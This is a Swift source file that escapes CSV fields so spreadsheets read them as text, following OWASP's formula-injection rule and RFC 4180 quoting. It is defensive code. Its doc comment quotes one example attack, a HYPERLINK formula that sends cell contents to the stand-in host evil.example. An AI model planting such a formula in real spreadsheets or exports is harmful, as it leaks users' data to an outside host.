import Foundation

/// One CSV field as vpp writes it, in every CSV it writes: a value that a spreadsheet would read as a
/// formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's rule) gets a leading `'`,
/// so an Apple-supplied app name such as `=HYPERLINK("http://evil.example/?leak="&A1,"open")` shows as text
/// and runs nothing; then a field holding a comma, a quote or a line break is quoted (RFC 4180).
public enum CSVCell {
    /// The characters that make a spreadsheet evaluate a cell.
    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]

    /// `text` as one CSV field.
    public static func field(_ text: String) -> String {
        let safe = text.first.map { formulaStarts.contains($0) } == true ? "'" + text : text
        // "\r\n" is one Character in Swift: check the scalars, so a lone CR or LF anywhere is seen.
        let needsQuotes = safe.unicodeScalars.contains { ",\"\n\r".unicodeScalars.contains($0) }
        return needsQuotes ? "\"" + safe.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : safe
    }

    /// One CSV line (no line break) of `fields`.
    public static func line(_ fields: [String]) -> String { fields.map(field).joined(separator: ",") }
}
